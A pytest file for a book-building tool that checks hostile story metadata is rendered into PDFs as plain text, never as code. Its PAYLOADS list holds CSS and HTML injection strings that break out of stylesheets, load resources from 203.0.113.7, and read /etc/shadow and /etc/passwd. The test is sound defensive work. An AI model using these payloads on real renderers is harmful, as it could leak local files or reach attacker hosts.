"""Hostile and broken inputs (issue 9): each case was a reproduction before its fix."""
from __future__ import annotations

import socket
import urllib.request
from pathlib import Path

import pytest
from pypdf import PdfReader

from bookbinder.api import BuildOptions, build
from bookbinder.backends import fetcher as fetcher_module
from bookbinder.backends.print_options import PrintOptions

# Story data made of CSS, HTML and control characters: each would reach the network or a local file
# if it were ever pasted into a stylesheet or a document as code.
CSS_ESCAPE = ('Evil\r}} @font-face{font-family:e;src:url(http://203.0.113.7/F.ttf)} '
              '@font-face{font-family:e2;src:url(file:///etc/shadow)} @page{x{y:"')
PAYLOADS = [
    CSS_ESCAPE,
    '"; } @import url("http://203.0.113.7/i.css"); p { x: "',
    "</p><link rel=stylesheet href='http://203.0.113.7/l.css'><img src='file:///etc/passwd'><p>",
    "x\f\x1b\\\" \\A \\\r\n}<style>@font-face{src:url(file:///etc/hostname)}</style>",
]


class _Recorder:
    """Every URL any fetcher was asked for, and every attempt to reach the network or urllib."""

    def __init__(self, monkeypatch) -> None:
        self.fetched: list[str] = []
        self.escapes: list[str] = []
        original = fetcher_module.ResourceFetcher.fetch

        def fetch(fetcher, url, headers=None):
            self.fetched.append(url)
            return original(fetcher, url, headers)

        def connect(sock, address):
            self.escapes.append(f"connect {address}")
            raise OSError("the tests forbid the network")

        def urlopen(opener, url, *args, **kwargs):
            self.escapes.append(f"urllib {getattr(url, 'full_url', url)}")
            raise OSError("the tests forbid urllib")

        monkeypatch.setattr(fetcher_module.ResourceFetcher, "fetch", fetch)
        monkeypatch.setattr(socket.socket, "connect", connect)
        monkeypatch.setattr(urllib.request.OpenerDirector, "open", urlopen)


def _yaml_quoted(text: str) -> str:
    escaped = (text.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "\\r").replace("\n", "\\n")
               .replace("\f", "\\f").replace("\x1b", "\\e"))
    return f'"{escaped}"'


def _hostile_story(folder: Path, name: str, payload: str, sidecar: bool) -> Path:
    fields = {"title": payload, "author": payload, "series": payload, "notes": payload, "summary": payload}
    meta = "\n".join(f"{key}: {_yaml_quoted(value)}" for key, value in fields.items())
    body = "The story itself, which is plain.\n\nA second paragraph of it.\n"
    if sidecar:
        path = folder / f"{name}.txt"
        path.write_text(body, encoding="utf-8")
        (folder / f"{name}.meta.yaml").write_text(meta + "\n", encoding="utf-8")
    else:
        path = folder / f"{name}.md"
        path.write_text(f"---\n{meta}\n---\n\n{body}", encoding="utf-8")
    return path


@pytest.mark.parametrize("tagged", [False, True], ids=["parallel-path", "tagged-path"])
def test_story_data_never_reaches_the_renderer_as_code(tmp_path: Path, monkeypatch, tagged: bool) -> None:
    recorder = _Recorder(monkeypatch)
    stories = [_hostile_story(tmp_path, f"s{i}-{kind}", payload, kind == "sidecar")
               for i, payload in enumerate(PAYLOADS) for kind in ("front-matter", "sidecar")]
    result = build(stories, BuildOptions(formats=("pdf",), out_dir=tmp_path / "out", title=CSS_ESCAPE,
                                         editors=(PAYLOADS[2],), print=PrintOptions(tagged=tagged)))
    assert not result.errors, result.errors
    assert not recorder.escapes, recorder.escapes
    allowed = {f"bookbinder:fonts/SourceSerifPro-{face}.ttf" for face in ("Regular", "It", "Semibold", "Bold",
                                                                          "BoldIt")}
    assert recorder.fetched and set(recorder.fetched) <= allowed, set(recorder.fetched) - allowed
    reader = PdfReader(result.written[0])
    fonts = {str(f.get_object()["/BaseFont"]) for page in reader.pages
             for f in (page["/Resources"].get("/Font") or {}).values()}
    assert all("Bookbinder-Serif" in name or "DejaVu" in name for name in fonts), fonts
    text = "".join(page.extract_text() or "" for page in reader.pages)
    assert "203.0.113.7" in text  # the payload is printed as text, which is what it is
